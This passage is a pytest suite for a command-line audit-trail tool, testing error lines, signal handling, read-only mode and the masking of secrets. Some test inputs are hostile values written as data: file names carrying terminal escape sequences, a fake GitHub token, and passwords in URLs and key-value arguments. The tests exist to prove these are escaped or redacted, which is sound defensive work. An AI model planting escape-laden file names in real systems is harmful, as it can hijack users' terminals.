        tables = [row[0] for row in connection.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
    assert tables == ["customers"]


def test_a_directory_is_not_a_database(tmp_path: Path) -> None:
    assert_one_error_line(run("stats", "--db", str(tmp_path), cwd=tmp_path), 1, "is a directory")


@pytest.mark.parametrize("command", [["query"], ["verify"], ["demo"]])
def test_a_fifo_is_not_a_database_and_is_not_waited_on(tmp_path: Path, command: list[str]) -> None:
    """Reading a FIFO's first bytes would wait for a writer that never comes."""
    fifo = tmp_path / "audit.db"
    os.mkfifo(fifo)
    result = subprocess.run(
        [sys.executable, "-m", "auditbus", *command],
        check=False,
        cwd=tmp_path,
        env=clean_env(AUDITBUS_DB=str(fifo)),
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        timeout=20,
    )
    assert result.returncode == 1, result
    assert f"{fifo} is not a regular file" in result.stderr.splitlines()[-1]
    assert "Traceback" not in result.stderr
    assert stat.S_ISFIFO(fifo.stat().st_mode)


@pytest.mark.parametrize(
    ("args", "fragments"),
    [
        (["query", "--since", "yesterday"], ["--since", "'yesterday'", "2h", "ISO-8601"]),
        (["query", "--until", "2026-13-45"], ["--until", "'2026-13-45'"]),
        (["purge", "--before", "soon", "--yes"], ["--before", "'soon'"]),
        (["query", "--bogus"], ["--bogus"]),
        (["query", "--type", "plan_aplied"], ["'plan_aplied'", "plan_applied"]),
        (["query", "--limit", "-3"], ["--limit", "'-3'"]),
        (["query", "--limit", "many"], ["--limit", "'many'"]),
        (["query", "--json", "--csv"], ["--csv", "--json"]),
        (["export", "--format", "xml"], ["--format", "'xml'"]),
        (["tail", "--interval", "0"], ["--interval"]),
        (["tail", "--follow", "--interval", "1e308"], ["--interval", "'1e308'", "86400"]),
        (["purge"], ["--before"]),
        (["frobnicate"], ["'frobnicate'"]),
    ],
)
def test_bad_usage_is_one_error_line_with_status_2(trail: Path, args: list[str], fragments: list[str]) -> None:
    assert_one_error_line(run(*args, "--db", str(trail), cwd=trail.parent), 2, *fragments)


# A GitHub token shape, pasted into the wrong argument.
PASTED_TOKEN = "ghp_" + "A1b2C3d4" * 4 + "E5f6"


@pytest.mark.parametrize(
    "args",
    [
        ["query", "--since", PASTED_TOKEN],
        ["query", "--type", f"plan_applied,{PASTED_TOKEN}"],
        ["query", "--limit", PASTED_TOKEN],
        ["verify", "--head", f"1:{PASTED_TOKEN}"],
        ["query", PASTED_TOKEN],
        ["query", f"--json={PASTED_TOKEN}"],
        ["purge", "--before", "password=hunter22", "--yes"],
    ],
    ids=["since", "type", "limit", "head", "unrecognized", "explicit", "key-value"],
)
def test_bad_usage_quotes_the_argument_with_its_secrets_masked(trail: Path, args: list[str]) -> None:
    """The error line of a CI job's `auditbus` call is in the job's log: a pasted token is not echoed."""
    result = run(*args, "--db", str(trail), cwd=trail.parent)
    assert_one_error_line(result, 2, "***REDACTED***")
    assert PASTED_TOKEN not in result.stderr
    assert "hunter22" not in result.stderr


@pytest.mark.parametrize(
    ("args", "status"),
    [
        (["query", "--db", "trail\x1b[2J.db"], 1),
        (["query", "--db", "{db}", "\x1b]0;owned\x07"], 2),
        (["export", "--db", "{db}", "-o", "no/such/\x1b[31mred.jsonl"], 1),
    ],
)
def test_an_error_line_shows_control_characters_escaped(trail: Path, args: list[str], status: int) -> None:
    """A path or word holding a terminal escape (a hostile file name in a loop over `*.db`) is quoted inert."""
    result = run(*(arg.replace("{db}", str(trail)) for arg in args), cwd=trail.parent)
    assert_one_error_line(result, status)
    assert "\x1b" not in result.stderr
    assert "\x07" not in result.stderr
    assert "\\x1b" in result.stderr


def test_an_error_quoting_a_database_path_masks_its_secrets(tmp_path: Path) -> None:
    """A token pasted as --db (or a variable holding one) is named masked in the error line."""
    result = run("query", "--db", str(tmp_path / PASTED_TOKEN), cwd=tmp_path)
    assert_one_error_line(result, 1, "no audit database at", "***REDACTED***")
    assert PASTED_TOKEN not in result.stderr


def test_the_commands_own_lines_naming_a_path_mask_its_secrets(trail: Path, tmp_path: Path) -> None:
    """What the command says when it succeeds lands in a scheduled job's log as its errors do."""
    exported = run("export", "-o", str(tmp_path / PASTED_TOKEN), "--db", str(trail), cwd=tmp_path)
    assert exported.returncode == 0, exported.stderr
    assert "exported" in exported.stderr
    assert (tmp_path / PASTED_TOKEN).exists()
    secret_db = tmp_path / f"{PASTED_TOKEN}.db"
    demo = run("demo", "--db", str(secret_db), cwd=tmp_path)
    assert demo.returncode == 0, demo.stdout + demo.stderr
    purge = run("purge", "--before", "1s", "--yes", "--db", str(secret_db), cwd=tmp_path)
    assert purge.returncode == 0, purge.stderr
    for result in (exported, demo, purge):
        assert PASTED_TOKEN not in result.stdout + result.stderr
        assert "***REDACTED***" in result.stdout + result.stderr


def test_the_commands_own_lines_naming_a_path_show_its_control_characters_escaped(trail: Path, tmp_path: Path) -> None:
    """A file name may hold an escape sequence: the line naming it must not drive the terminal."""
    target = tmp_path / "out\x1b[2J\x1b]0;pwned\x07.jsonl"
    exported = run("export", "-o", str(target), "--db", str(trail), cwd=tmp_path)
    assert exported.returncode == 0, exported.stderr
    assert target.exists()
    assert "\x1b" not in exported.stderr
    assert "out\\x1b[2J\\x1b]0;pwned\\x07.jsonl" in exported.stderr


def test_the_purge_question_at_a_terminal_masks_the_secrets_of_the_path(tmp_path: Path) -> None:
    """The question names the trail too, on a terminal a screen recording or a shared session shows."""
    path = tmp_path / f"{PASTED_TOKEN}.db"
    legacy_rows(path, 400, 390)
    prepare(path, sample_events())
    status, shown = _purge_at_terminal(path, b"n")
    assert "Delete the 2 oldest audit rows, recorded before" in shown
    assert status == 1
    assert "***REDACTED***" in shown
    assert PASTED_TOKEN not in shown


@pytest.mark.parametrize(
    "args",
    [
        ["query", "--limit", "99999999999999999999"],
        ["query", "--offset", "9223372036854775808"],
        ["tail", "-n", "99999999999999999999"],
    ],
)
def test_a_count_beyond_what_sqlite_can_hold_is_bad_usage(trail: Path, args: list[str]) -> None:
    """SQLite counts rows in 64 bits: a larger --limit, --offset or -n is refused, not an OverflowError."""
    assert_one_error_line(run(*args, "--db", str(trail), cwd=trail.parent), 2, args[1], args[2], "at most")
    result = run(args[0], args[1], str(2**63 - 1), "--db", str(trail), cwd=trail.parent)
    assert result.returncode == 0, result.stderr


@pytest.mark.parametrize(
    "args",
    [
        ["purge", "--before", "0001-01-01T00:00:00+01:00", "--yes"],
        ["query", "--since", "0001-01-01T00:00:00+01:00", "--until", "0001-01-01T00:00:00+02:00"],
        ["query", "--until", "9999-12-31T23:59:59-05:00"],
    ],
)
def test_a_date_outside_the_years_1_to_9999_in_utc_is_bad_usage(trail: Path, args: list[str]) -> None:
    """Read as UTC, these dates fall outside what a date can hold: refused before anything is done."""
    with AuditService(str(trail)) as service:
        purged_before = service.count(event_type="audit_purged")
    assert_one_error_line(run(*args, "--db", str(trail), cwd=trail.parent), 2, args[1], args[2], "UTC")
    with AuditService(str(trail)) as service:
        assert service.count(event_type="audit_purged") == purged_before
    assert count_rows(trail) == 5


def test_dates_that_cannot_match_are_bad_usage(trail: Path) -> None:
    """Like an unparseable date, these are status 2 (bad usage), as the exit-status table says."""
    for since, until in (("1h", "2h"), ("2h", "3h")):
        result = run("query", "--since", since, "--until", until, "--db", str(trail), cwd=trail.parent)
        assert_one_error_line(result, 2, "--since", "is after --until")
    for before in ("2999-01-01", "2099-01-01"):
        future = run("purge", "--before", before, "--yes", "--db", str(trail), cwd=trail.parent)
        assert_one_error_line(future, 2, "--before", "in the future")
    assert count_rows(trail) == 5


@pytest.mark.parametrize("command", [*READ_COMMANDS, ["demo"]], ids=lambda c: c[0])
def test_an_empty_database_path_is_bad_usage_not_the_default(trail: Path, command: list[str]) -> None:
    """`--db ""` or `AUDITBUS_DB=""` (an unset shell variable, say) must not quietly mean ./audit.db."""
    workdir = trail.parent / "work"
    workdir.mkdir()
    default = workdir / "audit.db"
    default.write_bytes(trail.read_bytes())
    before = default.read_bytes()
    by_flag = run(*command, "--db", "", cwd=workdir)
    assert_one_error_line(by_flag, 2, "--db", "empty")
    by_env = run(*command, cwd=workdir, env=clean_env(AUDITBUS_DB=""))
    assert_one_error_line(by_env, 2, "AUDITBUS_DB", "empty")
    assert default.read_bytes() == before
    assert sorted(p.name for p in workdir.iterdir()) == ["audit.db"]
    flag_over_empty_env = run("query", "--json", "--db", str(trail), cwd=workdir, env=clean_env(AUDITBUS_DB=""))
    assert flag_over_empty_env.returncode == 0, flag_over_empty_env.stderr
    assert len(jsonl(flag_over_empty_env.stdout)) == 5


def test_no_command_prints_help(tmp_path: Path) -> None:
    result = run(cwd=tmp_path)
    assert result.returncode == 2
    assert "query" in result.stderr
    assert "demo" in result.stderr


def test_an_unexpected_failure_is_one_line_and_auditbus_debug_shows_the_traceback(
    trail: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def broken(args: object) -> int:
        raise RuntimeError("stats broke\nsecond line")

    monkeypatch.setattr(cli, "cmd_stats", broken)
    monkeypatch.delenv("AUDITBUS_DEBUG", raising=False)
    assert cli.main(["stats", "--db", str(trail)]) == 1
    assert capsys.readouterr().err.splitlines() == ["auditbus: error: stats broke second line (RuntimeError)"]
    monkeypatch.setenv("AUDITBUS_DEBUG", "1")
    with pytest.raises(RuntimeError, match="stats broke"):
        cli.main(["stats", "--db", str(trail)])


def test_an_unexpected_failure_quoting_a_secret_is_printed_masked(
    trail: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Whatever text an unforeseen error carries, its line on stderr has the secret shapes masked."""

    def broken(args: object) -> int:
        raise OSError(f"could not reach postgres://audit:hunter2-pw@db/trail with {PASTED_TOKEN}")

    monkeypatch.setattr(cli, "cmd_stats", broken)
    monkeypatch.delenv("AUDITBUS_DEBUG", raising=False)
    assert cli.main(["stats", "--db", str(trail)]) == 1
    err = capsys.readouterr().err
    assert err.startswith("auditbus: error: could not reach postgres://audit:")
    assert err.endswith("(OSError)\n")
    assert "hunter2-pw" not in err
    assert PASTED_TOKEN not in err


def test_ctrl_c_outside_tail_follow_exits_130(
    trail: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def interrupted(args: object) -> int:
        raise KeyboardInterrupt

    monkeypatch.setattr(cli, "cmd_export", interrupted)
    assert cli.main(["export", "--db", str(trail)]) == 130
    assert capsys.readouterr().err == "auditbus: interrupted\n"


def _lifecycle_rows(path: Path, pid: int) -> list[str]:
    with AuditService(str(path), read_only=True) as service:
        rows = service.query(event_type=["audit_started", "audit_stopped"], order="asc", limit=None)
    return [str(row.event_type) for row in rows if (row.source or {}).get("pid") == pid]


def test_sigterm_mid_export_leaves_no_partial_file_and_records_the_stop(tmp_path: Path) -> None:
    """SIGTERM (a service manager, `timeout`) ends the command as Ctrl-C does: cleaned up, status 143."""
    path = tmp_path / "big.db"
    _many_rows(path, 200_000)
    out = tmp_path / "rows.jsonl"
    pid, status, _, err = _signalled(
        ["export", "-o", str(out), "--db", str(path)],
        tmp_path,
        lambda _pid: any(name.name.endswith(".partial") for name in tmp_path.iterdir()),
        signal.SIGTERM,
    )
    assert status == 143, err
    assert err.strip().splitlines() == ["auditbus: terminated (SIGTERM)"]
    assert sorted(name.name for name in tmp_path.iterdir() if not name.name.startswith("big.db")) == []
    assert _lifecycle_rows(path, pid) == ["audit_started", "audit_stopped"]


def test_sigterm_stops_tail_follow_like_ctrl_c(trail: Path) -> None:
    with _following(trail) as (process, lines):
        assert "auth_failure" in _next_line(lines, time.monotonic() + 60)
        process.send_signal(signal.SIGTERM)
        assert process.wait(timeout=60) == 0
        assert process.stderr is not None
        assert process.stderr.read() == ""
    assert _lifecycle_rows(trail, process.pid) == ["audit_started", "audit_stopped"]


def _with_closed(fd: int, *args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    """`auditbus ARGS` started with descriptor `fd` closed (`2>&-`, a daemon's closed descriptors)."""
    streams: dict[str, Any] = {"stdin": subprocess.DEVNULL, "stdout": subprocess.PIPE, "stderr": subprocess.PIPE}
    streams[("stdin", "stdout", "stderr")[fd]] = None
    return subprocess.run(
        [sys.executable, "-m", "auditbus", *args],
        check=False,
        cwd=cwd,
        env=clean_env(),
        preexec_fn=lambda: os.close(fd),
        text=True,
        timeout=120,
        **streams,
    )


def test_a_closed_stderr_does_not_send_messages_into_the_output(trail: Path) -> None:
    result = _with_closed(2, "query", "--limit", "2", "--json", "--db", str(trail), cwd=trail.parent)
    assert result.returncode == 0
    assert [row["event_type"] for row in jsonl(result.stdout)] == ["auth_failure", "plan_cancelled"]


def test_a_closed_stdout_is_one_error_line(trail: Path) -> None:
    result = _with_closed(1, "query", "--db", str(trail), cwd=trail.parent)
    assert_one_error_line(result, 1, "standard output is closed")


def test_a_closed_pipe_ends_quietly(tmp_path: Path) -> None:
    path = tmp_path / "big.db"
    prepare(
        path, [DomainEvent(event_type=EventType.PLAN_CREATED, details={"n": i, "pad": "x" * 200}) for i in range(3000)]
    )
    process = subprocess.Popen(
        [sys.executable, "-m", "auditbus", "export", "--db", str(path)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=clean_env(),
    )
    assert process.stdout is not None
    assert process.stderr is not None
    with process.stderr:
        assert process.stdout.readline()
        process.stdout.close()
        assert process.wait(timeout=60) == 0
        assert process.stderr.read() == b""


@pytest.mark.parametrize("command", [("export",), ("query", "--limit", "0"), ("tail", "-n", "3000")])
@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full")
def test_a_long_answer_on_a_full_disk_names_standard_output(tmp_path: Path, command: tuple[str, ...]) -> None:
    # The write that fails comes while rows are still read: the error line said only
    # "[Errno 28] No space left on device (OSError)", as if the trail's own disk were full.
    path = tmp_path / "big.db"
    prepare(path, [DomainEvent(event_type=EventType.PLAN_CREATED, details={"pad": "x" * 200}) for _ in range(3000)])
    with open("/dev/full", "wb") as full:
        result = subprocess.run(
            [sys.executable, "-m", "auditbus", *command, "--db", str(path)],
            check=False,
            stdout=full,
            stderr=subprocess.PIPE,
            env=clean_env(),
            text=True,
            timeout=120,
        )
    assert_one_error_line(result, 1, "cannot write standard output: No space left on device")


@pytest.mark.parametrize("command", [("stats",), ("query",), ("query", "--json"), ("export", "--format", "csv")])
def test_an_answer_that_cannot_be_written_at_exit_is_one_error_line_or_a_quiet_end(
    tmp_path: Path, command: tuple[str, ...]
) -> None:
    # A short answer stays in Python's buffer until the command ends: a reader gone by then, or a
    # full disk, shows at that last flush (not with PYTHONUNBUFFERED, which tests often run under).
    path = tmp_path / "audit.db"
    prepare(path, sample_events())
    env = {key: value for key, value in clean_env().items() if key != "PYTHONUNBUFFERED"}
    base = [sys.executable, "-m", "auditbus", *command, "--db", str(path)]
    read, write = os.pipe()
    os.close(read)  # the reader went away before anything was written
    with os.fdopen(write, "wb") as gone:
        closed = subprocess.run(base, check=False, stdout=gone, stderr=subprocess.PIPE, env=env, text=True, timeout=60)
    assert (closed.returncode, closed.stderr) == (0, "")
    if Path("/dev/full").exists():
        with open("/dev/full", "wb") as full:
            result = subprocess.run(
                base, check=False, stdout=full, stderr=subprocess.PIPE, env=env, text=True, timeout=60
            )
        assert_one_error_line(result, 1, "cannot write standard output", "No space left on device")


# --------------------------------------------------------------------------- demo

_PLANTED_KEY = re.compile(rb"sk-proj-[A-Za-z0-9]{20,}")


def _database_bytes(path: Path) -> bytes:
    return b"".join(p.read_bytes() for p in path.parent.glob(path.name + "*"))


def test_demo_runs_the_services_and_passes_every_check(tmp_path: Path) -> None:
    result = run("demo", cwd=tmp_path)
    assert result.returncode == 0, result.stdout + result.stderr
    path = tmp_path / "audit.db"
    assert path.exists()
    assert result.stdout.count("[ok]") == 4
    assert "[FAIL]" not in result.stdout
    assert "all checks passed" in result.stdout
    assert "is absent in" in result.stdout
    assert not _PLANTED_KEY.search(result.stdout.encode())  # the demo does not print the key either
    assert not _PLANTED_KEY.search(_database_bytes(path))
    rows = jsonl(run("query", "--json", "--limit", "0", "--asc", cwd=tmp_path).stdout)
    assert {row["event_type"] for row in rows} == AUDIT_TYPES
    assert {row["user_identity"] for row in rows} == {"alice"}
    api_key = [row for row in rows if row["details"].get("key") == "llm.api_key"]
    assert len(api_key) == 1
    assert not str(api_key[0]["details"]["new_value"]).startswith("sk-proj-")
    model = [row for row in rows if row["details"].get("key") == "llm.model"]
    assert model[0]["details"]["new_value"] == "gpt-4o"  # non-secrets stay readable
    assert run("verify", cwd=tmp_path).returncode == 0


def _table_rows(text: str) -> list[dict[str, str]]:
    """The rows of a table as `query`/`demo` print it, cut at the header's column starts."""
    lines = text.splitlines()
    header_at = next(i for i, line in enumerate(lines) if line.startswith("ID  TIME (UTC)"))
    header = lines[header_at]
    starts = [match.start() for match in re.finditer(r"(?<!\S)\S+(?: \(UTC\))?", header)]
    names = [header[a:b].strip() for a, b in zip(starts, [*starts[1:], None], strict=True)]
    rows = []
    for line in lines[header_at + 1 :]:
        if not line.strip():
            break
        cells = [line[a:b].strip() for a, b in zip(starts, [*starts[1:], None], strict=True)]
        rows.append(dict(zip(names, cells, strict=True)))
    return rows


def test_the_demo_sample_in_the_docs_matches_real_output(tmp_path: Path) -> None:
    docs = (Path(__file__).resolve().parent.parent / "docs" / "cli.md").read_text(encoding="utf-8")
    sample = docs[docs.index("$ auditbus demo\nauditbus demo:") :]
    real = run("demo", cwd=tmp_path)
    assert real.returncode == 0, real.stdout
    keys = ("ID", "TYPE", "USER", "ACTOR", "PROJECT", "OUTCOME")
    shown = [tuple(row[key] for key in keys) for row in _table_rows(real.stdout)]
    documented = [tuple(row[key] for key in keys) for row in _table_rows(sample)]
    assert documented == shown


def test_demo_on_a_large_trail_scans_it_in_bounded_memory(tmp_path: Path) -> None:
    """The redaction check reads the database file in chunks, not whole."""
    large = tmp_path / "large.db"
    with AuditService(str(large), durability="normal") as service:
        for number in range(100_000):
            service.record_event(
                DomainEvent(event_type=EventType.AUTH_SUCCESS, details={"n": number, "pad": "p" * 400})
            )
    assert large.stat().st_size > 48 * 1024 * 1024
    fresh, _ = _peak_rss_kib("demo", "--db", str(tmp_path / "fresh.db"), cwd=tmp_path)
    on_large, _ = _peak_rss_kib("demo", "--db", str(large), cwd=tmp_path)
    assert on_large - fresh < 24 * 1024, (fresh, on_large)


def test_the_redaction_scan_finds_a_key_that_straddles_two_chunks(tmp_path: Path) -> None:
    path = tmp_path / "scan.db"
    key = b"sk-proj-straddling0123456789"
    path.write_bytes(b"x" * (cli._SCAN_CHUNK - 5) + key + b"y" * 10)
    found, files, size = cli._scan_for({"key": key, "absent": b"nowhere"}, str(path))
    assert found == {"key": True, "absent": False}
    assert (files, size) == ([str(path)], path.stat().st_size)


def test_demo_twice_on_one_database_checks_only_its_own_rows(tmp_path: Path) -> None:
    path = tmp_path / "shared.db"
    first = run("demo", "--db", str(path), cwd=tmp_path)
    second = run("demo", cwd=tmp_path, env=clean_env(AUDITBUS_DB=str(path)))
    assert first.returncode == 0, first.stdout
    assert second.returncode == 0, second.stdout
    assert "persisted: 10 of 10" in second.stdout
    assert count_rows(path) == 20


def test_demo_fails_with_status_3_when_an_event_is_lost(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def lossy_bus(service: AuditService) -> ReactiveEventBus:
        """Persists every type but auth_failure: an emitted event that never reaches the trail."""
        bus = ReactiveEventBus()
        for event_type in EventType:
            if event_type is not EventType.AUTH_FAILURE:
                bus.subscribe(event_type, service.record_event)
        return bus

    monkeypatch.setattr(cli.demo, "wired_bus", lossy_bus)
    status = cli.main(["demo", "--db", str(tmp_path / "lossy.db")])
    out = capsys.readouterr().out
    assert status == 3
    assert "[FAIL] persisted: 9 of 10 emitted events" in out
    assert "a check FAILED" in out


# --------------------------------------------------------------------------- parsing dates


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("30s", datetime(2026, 5, 1, 11, 59, 30, tzinfo=UTC)),
        ("30m", datetime(2026, 5, 1, 11, 30, tzinfo=UTC)),
        ("2h", datetime(2026, 5, 1, 10, 0, tzinfo=UTC)),
        ("7d", datetime(2026, 4, 24, 12, 0, tzinfo=UTC)),
        ("2w", datetime(2026, 4, 17, 12, 0, tzinfo=UTC)),
        (" 2H ", datetime(2026, 5, 1, 10, 0, tzinfo=UTC)),
        ("2026-04-30", datetime(2026, 4, 30, tzinfo=UTC)),
        ("2026-04-30T08:15:00Z", datetime(2026, 4, 30, 8, 15, tzinfo=UTC)),
        ("2026-04-30 08:15:00", datetime(2026, 4, 30, 8, 15, tzinfo=UTC)),
        ("2026-04-30T10:15:00+02:00", datetime(2026, 4, 30, 8, 15, tzinfo=UTC)),
    ],
)
def test_parse_when(text: str, expected: datetime) -> None:
    assert cli.parse_when(text, now=datetime(2026, 5, 1, 12, 0, tzinfo=UTC)) == expected


@pytest.mark.parametrize("text", ["", "yesterday", "2x", "-2h", "2026-02-30", "h2"])
def test_parse_when_rejects_with_the_accepted_forms(text: str) -> None:
    with pytest.raises(Exception, match="expected a duration") as raised:
        cli.parse_when(text)
    assert repr(text) in str(raised.value)


@pytest.mark.parametrize("text", ["99999999999999999999h", "9" * 5000 + "h"], ids=["20-digits", "5000-digits"])
def test_parse_when_refuses_a_duration_reaching_before_year_1(text: str) -> None:
    # Python refuses to read an integer of more than 4300 digits: the same usage error, not argparse's generic one.
    with pytest.raises(Exception, match="reaches before year 1") as raised:
        cli.parse_when(text)
    assert type(raised.value).__name__ == "ArgumentTypeError"


def test_help_of_every_command(tmp_path: Path) -> None:
    for command in ("demo", "query", "tail", "verify", "export", "stats", "purge"):
        result = run(command, "--help", cwd=tmp_path)
        assert result.returncode == 0
        assert result.stdout.startswith(f"usage: auditbus {command}")


def test_version(tmp_path: Path) -> None:
    result = run("--version", cwd=tmp_path)
    assert result.stdout.strip() == f"auditbus {__version__}"


def test_secrets_in_rows_another_writer_stored_are_masked_on_output(tmp_path: Path) -> None:
    """The legacy service masks by key name only: a value-shaped secret sits in its rows."""
    path = tmp_path / "legacy.db"
    secret = "sk-legacyplainsecret1234567890abcdef"
    with sqlite3.connect(path) as connection:
        connection.executescript(LEGACY_SCHEMA)
        connection.execute(
            "INSERT INTO audit_log (timestamp, event_type, user_identity, details) VALUES (?, ?, ?, ?)",
            (NOW.isoformat(), "config_changed", "alice", json.dumps({"key": "llm.api_key", "new_value": secret})),
        )
        connection.execute(
            "INSERT INTO audit_log (timestamp, event_type, user_identity, details) VALUES (?, ?, ?, ?)",
            (NOW.isoformat(), "config_changed", "alice", f"not json, token={secret}"),
        )
        # A key stored twice: these details are shown as their stored text, masked all the same.
        connection.execute(
            "INSERT INTO audit_log (timestamp, event_type, user_identity, details) VALUES (?, ?, ?, ?)",
            (NOW.isoformat(), "config_changed", "alice", f'{{"note": "{secret}", "note": "again"}}'),
        )
    connection.close()
    for args in (("query",), ("query", "--json"), ("query", "--csv"), ("tail",), ("export", "--format", "csv")):
        result = run(*args, "--db", str(path), cwd=tmp_path)
        assert result.returncode == 0, (args, result.stderr)
        assert "llm.api_key" in result.stdout, args
        assert secret not in result.stdout + result.stderr, args


def _strict_json(line: str) -> Any:
    """`line` as JSON, refusing the NaN and Infinity that standard JSON does not have."""

    def refuse(constant: str) -> Any:
        raise ValueError(f"{constant} is not JSON")

    return json.loads(line, parse_constant=refuse)


def test_nan_infinities_and_lone_surrogates_another_writer_stored_give_valid_output(tmp_path: Path) -> None:
    """The legacy service's json.dumps writes NaN and Infinity, and a lone surrogate as an escape."""
    path = tmp_path / "legacy.db"
    stored = {
        1: '{"ratio": NaN, "ceiling": Infinity, "floor": -Infinity}',
        2: '{"overflow": 1e400}',
        3: '{"file": "report-\\udcff.txt"}',  # a file name decoded with surrogateescape
        4: '{"after": "the rows above"}',
    }
    with sqlite3.connect(path) as connection:
        connection.executescript(LEGACY_SCHEMA)
        for row_id, details in stored.items():
            connection.execute(
                "INSERT INTO audit_log (id, timestamp, event_type, user_identity, details) VALUES (?, ?, ?, ?, ?)",
                (row_id, NOW.isoformat(), "resource_modified", "alice", details),
            )
    connection.close()
    expected = {
        1: {"ratio": "nan", "ceiling": "inf", "floor": "-inf"},
        2: {"overflow": "inf"},
        3: {"file": "report-\udcff.txt"},
        4: {"after": "the rows above"},
    }
    for args in (("query", "--json"), ("tail", "--json"), ("export",)):
        result = run(*args, "--read-only", "--db", str(path), cwd=tmp_path)
        assert result.returncode == 0, (args, result.stderr)
        rows = {row["id"]: row["details"] for row in map(_strict_json, result.stdout.splitlines())}
        assert rows == expected, args
    for args in (("query", "--csv"), ("export", "--format", "csv")):
        result = run(*args, "--read-only", "--db", str(path), cwd=tmp_path)
        assert result.returncode == 0, (args, result.stderr)
        cells = {int(row["id"]): _strict_json(row["details"]) for row in csv.DictReader(io.StringIO(result.stdout))}
        assert cells == expected, args
    for args in (("query",), ("tail",)):
        result = run(*args, "--read-only", "--db", str(path), cwd=tmp_path)
        assert result.returncode == 0, (args, result.stderr)
        assert "file=report-\\udcff.txt" in result.stdout, args
        assert "after=" in result.stdout, args
        assert "ceiling=inf" in result.stdout, args


def test_secrets_in_the_columns_of_rows_another_writer_stored_are_masked_on_output(tmp_path: Path) -> None:
    """The legacy service stores `user_identity` and `plan_id` as given: a token or a URL password sits there
    (an identity taken from a header, a plan named by its source URL), and a bad timestamp may hold anything."""
    path = tmp_path / "legacy.db"
    token = "ghp_" + "A1b2C3d4" * 4 + "E5f6"
    with sqlite3.connect(path) as connection:
        connection.executescript(LEGACY_SCHEMA)
        connection.execute(
            "INSERT INTO audit_log (timestamp, event_type, plan_id, user_identity) VALUES (?, ?, ?, ?)",
            (NOW.isoformat(), "plan_applied", "https://bob:hunter22@git.example.com/plans", f"Bearer {token}"),
        )
        connection.execute(
            "INSERT INTO audit_log (timestamp, event_type, user_identity) VALUES (?, ?, ?)",
            (f"imported with {token}", "plan_applied", "alice"),
        )
    connection.close()
    for args in (
        ("query",),
        ("query", "--json"),
        ("query", "--csv"),
        ("tail",),
        ("tail", "--json"),
        ("export", "--format", "csv"),
        ("export",),
    ):
        result = run(*args, "--db", str(path), "--read-only", cwd=tmp_path)
        assert result.returncode == 0, (args, result.stderr)
        assert "git.example.com" in result.stdout, args
        assert "alice" in result.stdout, args
        assert token not in result.stdout + result.stderr, args
        assert "hunter22" not in result.stdout + result.stderr, args


@pytest.mark.parametrize("command", [("query",), ("verify",), ("stats",), ("purge", "--before", "2020-01-01", "--yes")])
def test_an_empty_file_is_refused_not_made_into_a_database(tmp_path: Path, command: tuple[str, ...]) -> None:
    path = tmp_path / "empty.db"
    path.touch()
    result = run(*command, "--db", str(path), cwd=tmp_path)
    assert result.returncode == 1, result.stderr
    assert "empty file, not an audit database" in result.stderr
    assert path.stat().st_size == 0


# --- --read-only ------------------------------------------------------------------------------


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.mark.parametrize(
    "args",
    [
        ["query", "--json"],
        ["tail", "-n", "3", "--json"],
        ["export", "--format", "csv"],
        ["query", "--user", "alice", "--json", "--limit", "0"],
    ],
)
def test_read_only_answers_as_the_command_does_and_writes_nothing(trail: Path, args: list[str]) -> None:
    before = digest(trail)
    first, *rest = args
    for position in (["--read-only", first, *rest], [first, "--read-only", *rest]):
        read_only = run(*position, "--db", str(trail), cwd=trail.parent)
        assert read_only.returncode == 0, read_only.stderr
        assert digest(trail) == before
    writable = run(*args, "--db", str(trail), cwd=trail.parent)
    assert writable.returncode == 0, writable.stderr
    assert read_only.stdout == writable.stdout
    # The writable run recorded its access; the read-only ones did not.
    with AuditService(trail, read_only=True) as reader:
        assert reader.count(event_type="audit_started") == 2  # the trail's own writer, then the writable command


def test_read_only_verify_and_stats(trail: Path) -> None:
    before = digest(trail)
    verified = run("--read-only", "verify", "--json", "--db", str(trail), cwd=trail.parent)
    assert verified.returncode == 0, verified.stderr
    assert json.loads(verified.stdout)["ok"] is True
    stats = run("stats", "--read-only", "--json", "--db", str(trail), cwd=trail.parent)
    assert stats.returncode == 0, stats.stderr
    figures = json.loads(stats.stdout)
    assert (figures["trail"]["rows"], figures["service"]["read_only"], figures["service"]["written"]) == (7, True, 0)
    assert digest(trail) == before


@pytest.mark.parametrize(
    ("args", "fragment"),
    [
        (["purge", "--before", "2d", "--yes", "--read-only"], "purge deletes rows"),
        (["--read-only", "demo"], "demo writes a sample trail"),
    ],
)
def test_read_only_refuses_the_commands_that_write(trail: Path, args: list[str], fragment: str) -> None:
    before = digest(trail)
    assert_one_error_line(run(*args, "--db", str(trail), cwd=trail.parent), 2, "--read-only", fragment)
    assert digest(trail) == before


def test_a_trail_the_user_may_not_write_is_refused_with_a_pointer_to_read_only() -> None:
    with readable_folder() as folder:
        path = folder / "trail.db"
        prepare(path, sample_events())
        refused = run_as_reader(["-m", "auditbus", "query", "--db", str(path)], folder)
        assert_one_error_line(refused, 1, "cannot be written by this user", "pass --read-only")
        read = run_as_reader(["-m", "auditbus", "query", "--read-only", "--json", "--db", str(path)], folder)
        assert read.returncode == 0, read.stderr
        assert [row["user_identity"] for row in jsonl(read.stdout)] == ["bob", "bob", "alice", "alice", "alice"]


def test_a_trail_in_a_folder_the_user_may_not_write_is_refused_naming_the_folder() -> None:
    with readable_folder() as folder:
        path = folder / "trail.db"
        prepare(path, sample_events())
        refused = run_as_reader(["-m", "auditbus", "query", "--db", str(path)], folder, own_files=True)
        # The file itself is writable: the error names what is not.
        assert_one_error_line(refused, 1, "-wal and -shm files beside", "its folder", "pass --read-only")
        assert "cannot be written by this user" not in refused.stderr
        read = run_as_reader(["-m", "auditbus", "--read-only", "query", "--json", "--db", str(path)], folder)
        assert read.returncode == 0, read.stderr
        assert len(jsonl(read.stdout)) == 5


